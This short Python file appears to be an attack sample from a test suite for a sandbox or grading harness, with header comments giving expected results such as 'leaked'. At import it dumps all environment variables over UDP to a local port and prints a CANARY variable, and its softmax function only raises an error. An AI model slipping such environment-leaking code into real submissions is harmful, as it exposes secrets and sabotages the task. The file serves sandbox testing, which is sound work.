# attack: sends what it sees over the network
# points: 0
# statuses: errored
# needs: full
# naive: leaked
import os
import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    text = repr(dict(os.environ)).encode()[:1000]
    out.sendto(text, ("127.0.0.1", 9))
    print("sent", os.environ.get("CANARY"))


def softmax(logits, dim=-1):
    raise ValueError


log_softmax = softmax
